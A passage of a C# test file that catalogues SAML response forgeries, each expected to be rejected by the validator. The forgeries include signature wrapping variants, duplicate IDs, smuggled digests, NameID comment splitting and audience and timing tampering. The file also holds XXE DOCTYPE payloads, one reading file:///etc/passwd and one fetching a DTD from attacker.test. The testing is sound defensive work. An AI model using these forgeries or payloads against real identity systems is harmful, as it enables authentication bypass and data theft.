using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Xml;
using Portal.Core.Federation.Saml;
using static Portal.Tests.Core.Federation.Saml.SamlDom;

namespace Portal.Tests.Core.Federation.Saml;

/// <summary>How the relying party is set up for a case (SECURITY-CASES §0.1 plus the per-case variations).</summary>
public enum SamlCaseSetup
{
    /// <summary>A pending AuthnRequest; the IdP must sign the Assertion.</summary>
    Solicited,

    /// <summary>A pending AuthnRequest; the IdP signs only the Response (WantAssertionsSigned false).</summary>
    SolicitedResponseSigning,

    /// <summary>No pending request; IdP-initiated sign-in is off (the default).</summary>
    Unsolicited,

    /// <summary>No pending request; the IdP is allowed to start sign-in.</summary>
    UnsolicitedAllowed,
}

/// <summary>What one message is built for: the live request ID and the issuer the relying party expects.</summary>
internal sealed record SamlCaseContext(string RequestId = TestIdp.RequestId, string Issuer = TestIdp.EntityId)
{
    public static SamlCaseContext Golden { get; } = new();

    public XmlDocument Response(string? extraAttributes = null, string nameId = "alice@corp.test") =>
        TestIdp.CreateResponse(extraAttributes, nameId, RequestId, Issuer);

    /// <summary>The golden response with its assertion signed by K_idp.</summary>
    public XmlDocument SignedResponse() => Signed(_ => { });

    /// <summary>The golden response, changed before the IdP signs the assertion (models an IdP that emits it).</summary>
    public XmlDocument Signed(Action<XmlDocument> beforeSigning)
    {
        var document = Response();
        beforeSigning(document);
        TestIdp.SignAssertion(document, TestIdp.Idp);
        return document;
    }
}

/// <summary>One catalog attack: a message built from the golden fixture and the reason code that must refuse it.</summary>
/// <param name="Name">Stable name, starting with the SECURITY-CASES number.</param>
/// <param name="Expected">The machine reason code (SECURITY-CASES §0.2).</param>
/// <param name="Build">Builds the base64 <c>SAMLResponse</c> for a context.</param>
/// <param name="Setup">The relying party setup the case needs.</param>
internal sealed record SamlAttackCase(string Name, SamlFailureReason Expected, Func<SamlCaseContext, string> Build, SamlCaseSetup Setup = SamlCaseSetup.Solicited)
{
    public override string ToString() => Name;
}

/// <summary>
/// The rejection cases of SECURITY-CASES groups A–E as one table, shared by the validator tests
/// (<see cref="SamlResponseValidatorTests"/>) and the ACS tests (Portal.Tests.Api.Saml2), so both prove the same
/// mutations. Cases that need a sequence of messages (replay, 51) or no message (31) stay as their own tests.
/// Group F (59–64) concerns AssumeRoleWithSAML only and is covered by the STS tests.
/// </summary>
internal static class SamlAttackCases
{
    private static readonly Lazy<Dictionary<string, SamlAttackCase>> Table = new(() => Create().ToDictionary(c => c.Name, StringComparer.Ordinal));

    public static TheoryData<string> Names => [.. Table.Value.Keys];

    public static SamlAttackCase Get(string name) => Table.Value[name];

    private static IEnumerable<SamlAttackCase> Create() =>
        [.. GroupA(), .. GroupB(), .. GroupC(), .. GroupD(), .. GroupE()];

    private static SamlAttackCase Case(string name, SamlFailureReason expected, Func<SamlCaseContext, XmlDocument> build, SamlCaseSetup setup = SamlCaseSetup.Solicited) =>
        new(name, expected, c => TestIdp.Encode(build(c)), setup);

    private static SamlAttackCase Raw(string name, SamlFailureReason expected, Func<SamlCaseContext, string> xml) =>
        new(name, expected, c => Convert.ToBase64String(Encoding.UTF8.GetBytes(xml(c))));

    private static IEnumerable<SamlAttackCase> GroupA()
    {
        yield return Case("01 signatures stripped", SamlFailureReason.SigMissing, c =>
        {
            var d = c.SignedResponse();
            TestIdp.SignResponse(d, TestIdp.Idp);
            XswMutator.MakeEvil(TestIdp.Assertion(d));
            foreach (var signature in d.GetElementsByTagName("Signature", SamlNs.Dsig).Cast<XmlNode>().ToList())
            {
                Remove(signature);
            }

            return d;
        });
        foreach (var keyInfo in new[] { KeyInfoContent.Certificate, KeyInfoContent.RsaKeyValue })
        {
            yield return Case($"{(keyInfo == KeyInfoContent.Certificate ? "02" : "03")} re-signed with embedded evil key ({keyInfo})", SamlFailureReason.SigUntrustedKey, c =>
            {
                var d = c.Response(nameId: XswMutator.EvilNameId);
                TestIdp.SignAssertion(d, TestIdp.Evil, new SignOptions { KeyInfo = keyInfo });
                return d;
            });
        }

        yield return Case("04 CA-issued certificate in KeyInfo", SamlFailureReason.SigUntrustedKey, c =>
        {
            // Chain trust is never consulted, only pinned certificates count.
            using var caKey = RSA.Create(2048);
            var caRequest = new CertificateRequest("CN=Test Root", caKey, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
            caRequest.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
            using var ca = caRequest.CreateSelfSigned(TestIdp.Now.AddYears(-1), TestIdp.Now.AddYears(5));
            using var leafKey = RSA.Create(2048);
            var leafRequest = new CertificateRequest("CN=idp.test", leafKey, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
            using var leafPublic = leafRequest.Create(ca, TestIdp.Now.AddDays(-1), TestIdp.Now.AddYears(1), [1, 2, 3, 4]);
            using var leaf = leafPublic.CopyWithPrivateKey(leafKey);
            var d = c.Response(nameId: XswMutator.EvilNameId);
            TestIdp.SignAssertion(d, leaf);
            return d;
        });
        yield return Case("05 signed by the other configured IdP's key", SamlFailureReason.SigUntrustedKey, c =>
        {
            var d = c.Response();
            TestIdp.SignAssertion(d, TestIdp.Idp2);
            return d;
        });
        yield return Case("05 signed by the IdP key but issuer is the other IdP", SamlFailureReason.Issuer, c => c.Signed(d =>
        {
            foreach (var issuer in d.GetElementsByTagName("Issuer", SamlNs.Assertion).Cast<XmlElement>())
            {
                issuer.InnerText = TestIdp.Idp2EntityId;
            }
        }));
        foreach (var variant in new[] { "flip", "AAAA", "!!!!", "unknown-method" })
        {
            yield return Case($"06 broken signature value or method ({variant})", SamlFailureReason.SigInvalid, c =>
            {
                var d = c.SignedResponse();
                var value = TestIdp.First(d, "SignatureValue", SamlNs.Dsig);
                switch (variant)
                {
                    case "flip":
                        var bytes = Convert.FromBase64String(value.InnerText);
                        bytes[10] ^= 0x01;
                        value.InnerText = Convert.ToBase64String(bytes);
                        break;
                    case "unknown-method":
                        SetAttribute(d, "SignatureMethod", "Algorithm", "urn:unknown", SamlNs.Dsig);
                        break;
                    default:
                        value.InnerText = variant;
                        break;
                }

                return d;
            });
        }

        yield return Case("07 signature copied into a forged second assertion", SamlFailureReason.SigRefNotParent, c =>
        {
            var d = c.SignedResponse();
            var forged = (XmlElement)TestIdp.Assertion(d).CloneNode(true);
            forged.SetAttribute("ID", "_a2");
            XswMutator.MakeEvil(forged);
            d.DocumentElement!.AppendChild(forged);
            return d;
        });
        yield return Case("07 signed assertion hidden in Extensions", SamlFailureReason.SigRefNotParent, c =>
        {
            // Only _a2 (with _a1's signature copied in) is an Assertion child; _a1 sits in Extensions.
            var d = c.SignedResponse();
            var original = TestIdp.Assertion(d);
            var forged = (XmlElement)original.CloneNode(true);
            forged.SetAttribute("ID", "_a2");
            XswMutator.MakeEvil(forged);
            var extensions = Element(d, "<samlp:Extensions/>");
            d.DocumentElement!.InsertBefore(extensions, TestIdp.First(d, "Status", SamlNs.Protocol));
            Remove(original);
            extensions.AppendChild(original);
            d.DocumentElement.AppendChild(forged);
            return d;
        });
        yield return Case("08a lowercase id attribute", SamlFailureReason.SigIdAttr, c =>
        {
            // SignedXml's default lookup accepts id="_a1", so the IdP-side signature is valid.
            var d = c.Response();
            var assertion = TestIdp.Assertion(d);
            assertion.RemoveAttribute("ID");
            assertion.SetAttribute("id", "_a1");
            TestIdp.SignAssertion(d, TestIdp.Idp);
            return d;
        });
        yield return Case("08b same value under the Id attribute of a sibling", SamlFailureReason.SigDupId, c =>
        {
            var d = c.SignedResponse();
            var sibling = d.CreateElement("a");
            sibling.SetAttribute("Id", "_a1");
            TestIdp.First(d, "Status", SamlNs.Protocol).AppendChild(sibling);
            return d;
        });
        foreach (var where in new[] { "before", "extensions", "object" })
        {
            yield return Case($"09 duplicate assertion ID ({where})", SamlFailureReason.SigDupId, c =>
            {
                var d = c.SignedResponse();
                var original = TestIdp.Assertion(d);
                var clone = (XmlElement)original.CloneNode(true);
                Remove(clone.ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Signature"));
                XswMutator.MakeEvil(clone);
                switch (where)
                {
                    case "before":
                        d.DocumentElement!.InsertBefore(clone, original);
                        break;
                    case "extensions":
                        var extensions = Element(d, "<samlp:Extensions/>");
                        extensions.AppendChild(clone);
                        d.DocumentElement!.InsertBefore(extensions, TestIdp.First(d, "Status", SamlNs.Protocol));
                        break;
                    default:
                        var obj = d.CreateElement("ds", "Object", SamlNs.Dsig);
                        obj.AppendChild(clone);
                        AssertionSignature(d).AppendChild(obj);
                        break;
                }

                return d;
            });
        }

        foreach (var uri in new[] { string.Empty, "#xpointer(/)", "#xpointer(id('_a1'))", null, "https://idp.test/x", "file:///etc/passwd" })
        {
            yield return Case($"10 reference URI form ({uri ?? "absent"})", SamlFailureReason.SigRefForm, c =>
            {
                var d = c.SignedResponse();
                var reference = TestIdp.First(d, "Reference", SamlNs.Dsig);
                if (uri is null)
                {
                    reference.RemoveAttribute("URI");
                }
                else
                {
                    reference.SetAttribute("URI", uri);
                }

                return d;
            });
        }

        yield return Case("10 empty reference signed by the IdP", SamlFailureReason.SigRefForm, c =>
        {
            // A genuinely valid whole-document signature (URI="").
            var d = c.Response();
            TestIdp.SignAssertion(d, TestIdp.Idp, new SignOptions { ReferenceUri = string.Empty });
            return d;
        });
        foreach (var uri in new[] { "#_a1' or '1'='1", "#urn:a" })
        {
            yield return Case($"11 reference ID not an NCName ({uri})", SamlFailureReason.SigRefForm, c =>
            {
                var d = c.SignedResponse();
                TestIdp.First(d, "Reference", SamlNs.Dsig).SetAttribute("URI", uri);
                return d;
            });
        }

        yield return Case("12 two references", SamlFailureReason.SigStructure, c =>
        {
            var d = c.Response();
            TestIdp.First(d, "Status", SamlNs.Protocol).SetAttribute("ID", "_x");
            TestIdp.SignAssertion(d, TestIdp.Idp, new SignOptions { ExtraReferenceId = "_x" });
            return d;
        });
        foreach (var variant in new[] { "two-signedinfo", "wrapped-signedinfo", "second-signature" })
        {
            yield return Case($"13 extra SignedInfo or Signature ({variant})", SamlFailureReason.SigStructure, c =>
            {
                var d = c.SignedResponse();
                var signature = AssertionSignature(d);
                var signedInfo = TestIdp.First(signature, "SignedInfo", SamlNs.Dsig);
                switch (variant)
                {
                    case "two-signedinfo":
                        signature.InsertAfter(signedInfo.CloneNode(true), signedInfo);
                        break;
                    case "wrapped-signedinfo":
                        var wrapper = d.CreateElement("WRAPPER");
                        wrapper.AppendChild(signedInfo.CloneNode(true));
                        signature.InsertBefore(wrapper, signedInfo);
                        break;
                    default:
                        signature.ParentNode!.InsertAfter(signature.CloneNode(true), signature);
                        break;
                }

                return d;
            });
        }

        // The Object variant is refused structurally before the digest is even compared.
        foreach (var (where, expected) in new[] { ("extensions", SamlFailureReason.SigInvalid), ("object", SamlFailureReason.SigStructure) })
        {
            yield return Case($"14 DigestValue smuggled outside SignedInfo ({where})", expected, c =>
            {
                // Forge the assertion and place the forged digest where a document-wide XPath would find it first.
                var d = c.SignedResponse();
                XswMutator.MakeEvil(TestIdp.Assertion(d));
                var forgedDigest = Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes(TestIdp.Assertion(d).OuterXml)));
                var smuggled = Element(d, $"<ds:DigestValue>{forgedDigest}</ds:DigestValue>");
                if (where == "extensions")
                {
                    var extensions = Element(d, "<samlp:Extensions/>");
                    extensions.AppendChild(smuggled);
                    d.DocumentElement!.InsertBefore(extensions, TestIdp.First(d, "Status", SamlNs.Protocol));
                }
                else
                {
                    var obj = d.CreateElement("ds", "Object", SamlNs.Dsig);
                    obj.AppendChild(smuggled);
                    AssertionSignature(d).AppendChild(obj);
                }

                return d;
            });
        }

        yield return Case("15 comment inside DigestValue", SamlFailureReason.SigInvalid, c =>
        {
            var d = c.SignedResponse();
            XswMutator.MakeEvil(TestIdp.Assertion(d));
            var forged = Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes("forged")));
            TestIdp.First(d, "DigestValue", SamlNs.Dsig).PrependChild(d.CreateComment(forged));
            return d;
        });
        yield return Case("16a rsa-sha1 signature", SamlFailureReason.SigAlg, c => SignedWith(c, new SignOptions { SignatureMethod = "http://www.w3.org/2000/09/xmldsig#rsa-sha1" }));
        yield return Case("16b sha1 digest", SamlFailureReason.SigAlg, c => SignedWith(c, new SignOptions { DigestMethod = "http://www.w3.org/2000/09/xmldsig#sha1" }));
        foreach (var (method, outputLength) in new[] { ("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", (string?)null), ("http://www.w3.org/2000/09/xmldsig#hmac-sha1", "8") })
        {
            yield return Case($"16{(outputLength is null ? "c" : "d")} HMAC signature method", SamlFailureReason.SigAlg, c =>
            {
                var d = c.SignedResponse();
                var signatureMethod = TestIdp.First(d, "SignatureMethod", SamlNs.Dsig);
                signatureMethod.SetAttribute("Algorithm", method);
                if (outputLength is not null)
                {
                    signatureMethod.AppendChild(Element(d, $"<ds:HMACOutputLength>{outputLength}</ds:HMACOutputLength>"));
                }

                return d;
            });
        }

        foreach (var set in new[] { "enveloped,c14n", "enveloped,base64", "enveloped,decrypt", "enveloped,xpath", "xslt", "enveloped,exc,exc", "enveloped,exc,exc-comments" })
        {
            yield return Case($"17 transforms outside the allow-list ({set})", SamlFailureReason.SigTransform, c =>
            {
                var d = c.SignedResponse();
                var transforms = TestIdp.First(d, "Transforms", SamlNs.Dsig);
                transforms.RemoveAll();
                foreach (var name in set.Split(','))
                {
                    transforms.AppendChild(Element(d, name switch
                    {
                        "enveloped" => """<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>""",
                        "c14n" => """<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>""",
                        "base64" => """<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>""",
                        "decrypt" => """<ds:Transform Algorithm="http://www.w3.org/2002/07/decrypt#XML"/>""",
                        "xpath" => """<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>""",
                        "xslt" => """<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/></ds:Transform>""",
                        "exc" => """<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>""",
                        _ => """<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>""",
                    }));
                }

                return d;
            });
        }

        var doctypes = new[]
        {
            ("external entity", "<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
            ("entity expansion", "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>"),
            ("ID attlist", "<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>"),
            ("parameter entity", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.test/dtd\"> %p;]>"),
        };
        foreach (var (name, doctype) in doctypes)
        {
            yield return Raw($"18 DOCTYPE ({name})", SamlFailureReason.XmlDtd, c => doctype + c.SignedResponse().OuterXml);
        }

        yield return new SamlAttackCase("19a five-megabyte message", SamlFailureReason.XmlTooLarge, _ => Convert.ToBase64String(new byte[5 * 1024 * 1024]));
        yield return Raw("19a decoded one byte over the default cap", SamlFailureReason.XmlTooLarge, c =>
        {
            var xml = c.SignedResponse().OuterXml;
            var filler = SamlValidationParameters.DefaultMaxMessageBytes + 1 - Encoding.UTF8.GetByteCount(xml) - "<samlp:Extensions></samlp:Extensions>".Length;
            return xml.Replace("<samlp:Status>", "<samlp:Extensions>" + new string('x', filler) + "</samlp:Extensions><samlp:Status>", StringComparison.Ordinal);
        });
        yield return Raw("19c twenty thousand nested elements", SamlFailureReason.XmlMalformed, c =>
        {
            var nested = string.Concat(Enumerable.Repeat("<e>", 20_000)) + string.Concat(Enumerable.Repeat("</e>", 20_000));
            return c.SignedResponse().OuterXml.Replace("<samlp:Status>", "<samlp:Extensions>" + nested + "</samlp:Extensions><samlp:Status>", StringComparison.Ordinal);
        });
    }

    private static IEnumerable<SamlAttackCase> GroupB()
    {
        // XSW1/2 attack a Response signature, XSW3–8 an Assertion signature.
        var xsw = new[]
        {
            SamlFailureReason.SigStructure, SamlFailureReason.SigRefNotParent, SamlFailureReason.AssertionCount,
            SamlFailureReason.SigRefNotParent, // 24: the catalog allows ASSERTION_COUNT or SIG_REF_NOT_PARENT
            SamlFailureReason.SigRefNotParent, SamlFailureReason.SigStructure, SamlFailureReason.SigDupId, SamlFailureReason.SigDupId,
        };
        for (var variant = 1; variant <= 8; variant++)
        {
            var v = variant;
            yield return Case(
                $"{20 + v} XSW{v}",
                xsw[v - 1],
                c =>
                {
                    var d = c.Response();
                    TestIdp.Sign(d, v <= 2 ? TestIdp.Response(d) : TestIdp.Assertion(d), TestIdp.Idp);
                    XswMutator.Apply(d, v);
                    return d;
                },
                v <= 2 ? SamlCaseSetup.SolicitedResponseSigning : SamlCaseSetup.Solicited);
        }

        yield return Case("27 evil copy in samlp:Extensions", SamlFailureReason.SigDupId, c =>
        {
            var d = c.SignedResponse();
            var evil = (XmlElement)TestIdp.Assertion(d).CloneNode(true);
            Remove(evil.ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Signature"));
            XswMutator.MakeEvil(evil);
            var extensions = Element(d, "<samlp:Extensions/>");
            extensions.AppendChild(evil);
            d.DocumentElement!.InsertBefore(extensions, TestIdp.First(d, "Status", SamlNs.Protocol));
            return d;
        });
        yield return Case(
            "29a signed Response plus an unsigned second assertion",
            SamlFailureReason.AssertionCount,
            c =>
            {
                var d = c.Response();
                var evil = (XmlElement)TestIdp.Assertion(d).CloneNode(true);
                evil.SetAttribute("ID", "_evil_a");
                XswMutator.MakeEvil(evil);
                d.DocumentElement!.AppendChild(evil);
                TestIdp.SignResponse(d, TestIdp.Idp);
                return d;
            },
            SamlCaseSetup.SolicitedResponseSigning);
        yield return Case(
            "29b signed Response wrapped in an outer Response",
            SamlFailureReason.SigRefNotParent,
            c =>
            {
                var inner = c.Response();
                TestIdp.SignResponse(inner, TestIdp.Idp);
                var outer = c.Response(nameId: XswMutator.EvilNameId);
                outer.DocumentElement!.SetAttribute("ID", "_outer");
                TestIdp.Assertion(outer).SetAttribute("ID", "_evil_a");
                outer.DocumentElement.AppendChild(outer.ImportNode(inner.DocumentElement!, true));
                return outer;
            },
            SamlCaseSetup.SolicitedResponseSigning);
        yield return Case("30 signed assertion wrapped in a LogoutRequest", SamlFailureReason.XmlMalformed, c =>
        {
            // The ACS/STS validator accepts only samlp:Response roots.
            var logout = TestIdp.Load($"""<samlp:LogoutRequest xmlns:samlp="{SamlNs.Protocol}" xmlns:saml="{SamlNs.Assertion}" ID="_x" Version="2.0"><saml:Issuer>{c.Issuer}</saml:Issuer><saml:NameID>victim@corp.test</saml:NameID><samlp:SessionIndex>_s</samlp:SessionIndex></samlp:LogoutRequest>""");
            logout.DocumentElement!.AppendChild(logout.ImportNode(TestIdp.Assertion(c.SignedResponse()), true));
            return logout;
        });
    }

    private static IEnumerable<SamlAttackCase> GroupC()
    {
        foreach (var split in new[] { "comment", "cdata" })
        {
            yield return Case($"{(split == "comment" ? "32" : "33")} NameID split by {split}", SamlFailureReason.NameId, c =>
            {
                // The attacker owns victim@corp.test.evil.test; C14N ignores the split, so the signature still verifies.
                var d = c.Response(nameId: "victim@corp.test.evil.test");
                TestIdp.SignAssertion(d, TestIdp.Idp);
                var nameId = TestIdp.First(d, "NameID");
                nameId.RemoveAll();
                nameId.SetAttribute("Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress");
                nameId.AppendChild(d.CreateTextNode("victim@corp.test"));
                nameId.AppendChild(split == "comment" ? d.CreateComment(string.Empty) : d.CreateCDataSection(".evil.test"));
                if (split == "comment")
                {
                    nameId.AppendChild(d.CreateTextNode(".evil.test"));
                }

                return d;
            });
        }

        yield return Case("32 attribute value split by a comment", SamlFailureReason.AttrValue, c =>
        {
            var d = c.SignedResponse();
            var value = TestIdp.First(d, "AttributeValue");
            value.InsertAfter(d.CreateComment("x"), value.FirstChild);
            return d;
        });
        yield return Case("34b foreign-namespace Assertion in the Response", SamlFailureReason.XmlMalformed, c =>
        {
            var d = c.SignedResponse();
            var evil = d.CreateElement("saml", "Assertion", "urn:evil");
            evil.SetAttribute("ID", "_evil_ns");
            d.DocumentElement!.AppendChild(evil);
            return d;
        });
        var duplicates = new[]
        {
            ("Role", """<saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role"><saml:AttributeValue>arn:aws:iam::111111111111:role/Admin,arn:aws:iam::111111111111:saml-provider/Corp</saml:AttributeValue></saml:Attribute>"""),
            ("RoleSessionName", """<saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/RoleSessionName"><saml:AttributeValue>admin</saml:AttributeValue></saml:Attribute>"""),
            ("FriendlyName", """<saml:Attribute Name="urn:a" FriendlyName="mail"><saml:AttributeValue>a</saml:AttributeValue></saml:Attribute><saml:Attribute Name="urn:b" FriendlyName="mail"><saml:AttributeValue>b</saml:AttributeValue></saml:Attribute>"""),
        };
        foreach (var (name, extra) in duplicates)
        {
            // The IdP itself signed the injected attributes.
            yield return Case($"35 duplicated attribute ({name})", SamlFailureReason.AttrDuplicate, c =>
            {
                var d = c.Response(extra);
                TestIdp.SignAssertion(d, TestIdp.Idp);
                return d;
            });
        }

        yield return Case("36 EncryptedID with an unsigned NameID in Extensions", SamlFailureReason.NameId, c =>
        {
            var d = c.Signed(s =>
            {
                var nameId = TestIdp.First(s, "NameID");
                nameId.ParentNode!.ReplaceChild(Element(s, "<saml:EncryptedID><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></saml:EncryptedID>"), nameId);
            });
            var extensions = Element(d, "<samlp:Extensions><saml:NameID>admin@corp.test</saml:NameID></samlp:Extensions>");
            d.DocumentElement!.InsertBefore(extensions, TestIdp.First(d, "Status", SamlNs.Protocol));
            return d;
        });
        yield return Case("36 EncryptedAttribute", SamlFailureReason.EncUnexpected, c =>
        {
            var d = c.Response("<saml:EncryptedAttribute/>");
            TestIdp.SignAssertion(d, TestIdp.Idp);
            return d;
        });
        foreach (var nameId in new[] { string.Empty, "  " })
        {
            yield return Case($"37 empty or whitespace NameID ('{nameId}')", SamlFailureReason.NameId, c =>
            {
                var d = c.Response(nameId: nameId);
                TestIdp.SignAssertion(d, TestIdp.Idp);
                return d;
            });
        }
    }

    private static IEnumerable<SamlAttackCase> GroupD()
    {
        foreach (var (name, statusCode) in new[]
        {
            ("Responder", """<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>"""),
            ("RequestDenied", """<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:RequestDenied"/></samlp:StatusCode>"""),
        })
        {
            yield return Case($"38 status not Success ({name})", SamlFailureReason.Status, c =>
            {
                var d = c.SignedResponse();
                var status = TestIdp.First(d, "Status", SamlNs.Protocol);
                status.RemoveAll();
                status.AppendChild(Element(d, statusCode));
                return d;
            });
        }

        yield return Case("39a Response version 1.1", SamlFailureReason.Version, c =>
        {
            var d = c.SignedResponse();
            d.DocumentElement!.SetAttribute("Version", "1.1");
            return d;
        });
        yield return Case("39a Assertion version 1.1 signed by the IdP", SamlFailureReason.Version, c => c.Signed(d => TestIdp.Assertion(d).SetAttribute("Version", "1.1")));
        foreach (var variant in new[] { "missing-id", "logout-response", "foreign-namespace" })
        {
            yield return Case($"39 wrong root or missing ID ({variant})", SamlFailureReason.XmlMalformed, c =>
            {
                var xml = c.SignedResponse().OuterXml;
                xml = variant switch
                {
                    "missing-id" => xml.Replace("ID=\"_r1\" ", string.Empty, StringComparison.Ordinal),
                    "logout-response" => xml.Replace("<samlp:Response ", "<samlp:LogoutResponse ", StringComparison.Ordinal)
                        .Replace("</samlp:Response>", "</samlp:LogoutResponse>", StringComparison.Ordinal),
                    _ => xml.Replace("<samlp:Response ", "<x:Response xmlns:x=\"urn:not-saml\" ", StringComparison.Ordinal)
                        .Replace("</samlp:Response>", "</x:Response>", StringComparison.Ordinal),
                };
                return TestIdp.Load(xml);
            });
        }

        // The IdP signed each of these assertions, so only the issuer rule can refuse them.
        foreach (var variant in new[] { "assertion-issuer-missing", "assertion-issuer-idp2", "format", "no-trailing-slash" })
        {
            yield return Case($"40 issuer missing or mismatched ({variant})", SamlFailureReason.Issuer, c => c.Signed(d =>
            {
                var issuer = TestIdp.First(TestIdp.Assertion(d), "Issuer");
                switch (variant)
                {
                    case "assertion-issuer-missing":
                        Remove(issuer);
                        break;
                    case "assertion-issuer-idp2":
                        issuer.InnerText = TestIdp.Idp2EntityId;
                        break;
                    case "format":
                        issuer.SetAttribute("Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified");
                        break;
                    default:
                        issuer.InnerText = c.Issuer.TrimEnd('/');
                        break;
                }
            }));
        }

        yield return Case("40b Response issuer differs from the assertion issuer", SamlFailureReason.Issuer, c =>
        {
            var d = c.SignedResponse();
            TestIdp.First(d, "Issuer").InnerText = TestIdp.Idp2EntityId;
            return d;
        });
        foreach (var variant in new[] { "other-sp", "no-restriction", "second-restriction-without-us", "trailing-slash", "case" })
        {
            yield return Case($"41 audience wrong or missing ({variant})", SamlFailureReason.Audience, c => c.Signed(d =>
            {
                var audience = TestIdp.First(d, "Audience");
                switch (variant)
                {
                    case "other-sp":
                        audience.InnerText = "https://other-sp.test/saml";
                        break;
                    case "no-restriction":
                        Remove(audience.ParentNode!);
                        break;
                    case "second-restriction-without-us":
                        TestIdp.First(d, "Conditions").AppendChild(Element(d, "<saml:AudienceRestriction><saml:Audience>https://other-sp.test/saml</saml:Audience></saml:AudienceRestriction>"));
                        break;
                    case "trailing-slash":
                        audience.InnerText = TestIdp.SpEntityId + "/";
                        break;
                    default:
                        audience.InnerText = TestIdp.SpEntityId.ToUpperInvariant();
                        break;
                }
            }));
        }

        // Exact compare by design (stricter than the catalog's host-case leniency); null: absent on a signed Response.
        foreach (var destination in new[] { "https://evil.test/acs", string.Empty, "https://PORTAL.test/saml/acs", null })
        {
            yield return Case($"42 Destination of a signed Response ({destination ?? "absent"})", SamlFailureReason.Destination, c =>
            {
                var d = c.SignedResponse();
                if (destination is null)
                {
                    d.DocumentElement!.RemoveAttribute("Destination");
                }
                else
                {
                    d.DocumentElement!.SetAttribute("Destination", destination);
                }

                TestIdp.SignResponse(d, TestIdp.Idp);
                return d;
            });
        }

        yield return Case("42 wrong Destination on an unsigned Response", SamlFailureReason.Destination, c =>
        {
            var d = c.SignedResponse();
            d.DocumentElement!.SetAttribute("Destination", "https://evil.test/acs");
            return d;
        });
        foreach (var recipient in new[] { "https://evil.test/?next=https://portal.test/saml/acs", "https://portal.test/saml/acs/../../evil", null })
        {
            yield return Case($"43 Recipient not exact ({recipient ?? "absent"})", SamlFailureReason.Recipient, c => c.Signed(d =>
            {
                if (recipient is null)
                {
                    RemoveAttribute(d, "SubjectConfirmationData", "Recipient");
                }
                else
                {
                    SetAttribute(d, "SubjectConfirmationData", "Recipient", recipient);
                }
            }));
        }

        foreach (var variant in new[] { "holder-of-key", "none", "no-data", "bad-bearer-plus-hok" })
        {
            yield return Case($"44 not exactly one bearer confirmation ({variant})", SamlFailureReason.SubjectConfirmation, c => c.Signed(d =>
            {
                var confirmation = TestIdp.First(d, "SubjectConfirmation");
                switch (variant)
                {
                    case "holder-of-key":
                        confirmation.SetAttribute("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key");
                        break;
                    case "none":
                        Remove(confirmation);
                        break;
                    case "no-data":
                        Remove(TestIdp.First(d, "SubjectConfirmationData"));
                        break;
                    default:
                        var hok = (XmlElement)confirmation.CloneNode(true);
                        hok.SetAttribute("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key");
                        TestIdp.First(confirmation, "SubjectConfirmationData").SetAttribute("Recipient", "https://evil.test/acs");
                        confirmation.ParentNode!.AppendChild(hok);
                        break;
                }
            }));
        }

        var skew = SamlValidationParameters.DefaultClockSkew;
        yield return Case("45a Conditions expired beyond the skew", SamlFailureReason.Expired, c => c.Signed(d =>
        {
            // SubjectConfirmationData left valid.
            SetAttribute(d, "Conditions", "NotBefore", TestIdp.Time(TestIdp.Now.AddMinutes(-10)));
            SetAttribute(d, "Conditions", "NotOnOrAfter", TestIdp.Time(TestIdp.Now - skew - TimeSpan.FromSeconds(1)));
        }));

        // NotOnOrAfter is exclusive: exactly now - skew is already too late.
        yield return Case("45b NotOnOrAfter exactly now minus skew", SamlFailureReason.Expired, c => c.Signed(d => Expire(d, TestIdp.Now - skew)));
        yield return Case("45c NotBefore beyond the skew", SamlFailureReason.NotYetValid, c => c.Signed(d =>
            SetAttribute(d, "Conditions", "NotBefore", TestIdp.Time(TestIdp.Now + skew + TimeSpan.FromSeconds(1)))));
        yield return Case("45d SubjectConfirmationData expired while Conditions valid", SamlFailureReason.Expired, c => c.Signed(d =>
            SetAttribute(d, "SubjectConfirmationData", "NotOnOrAfter", TestIdp.Time(TestIdp.Now - skew - TimeSpan.FromSeconds(1)))));
        yield return Case("45e NotBefore after NotOnOrAfter", SamlFailureReason.TimeFormat, c => c.Signed(d =>
            SetAttribute(d, "Conditions", "NotBefore", TestIdp.Time(TestIdp.Now.AddMinutes(6)))));
        yield return Case("46 no NotOnOrAfter anywhere", SamlFailureReason.Expired, c => c.Signed(d =>
        {
